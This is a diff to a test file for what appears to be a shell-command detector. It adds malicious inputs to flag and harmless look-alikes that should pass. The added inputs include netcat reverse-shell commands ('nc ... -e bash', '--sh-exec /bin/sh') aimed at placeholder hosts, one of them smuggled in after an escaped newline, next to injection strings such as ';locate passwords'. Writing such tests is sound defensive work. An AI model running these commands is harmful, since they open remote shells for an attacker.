@@ -214,6 +214,8 @@ describe('More of what shells run', () => {
     'shell',
     [
       ';which lua',
+      'see below\\n. x nc 192.0.2.9 4444 -e bash',
+      'x netcat host.example 99 --sh-exec /bin/sh',
       ';locate passwords',
       ';wall bye',
       ';host h.example',
@@ -244,6 +246,8 @@ describe('More of what shells run', () => {
     ],
     [
       'id;name;date',
+      'nc 192.0.2.9 4444 -e is for the old netcat',
+      'func name 20 -e shows',
       'host|port|user',
       'make;model;time',
       '`Date` (copied)',
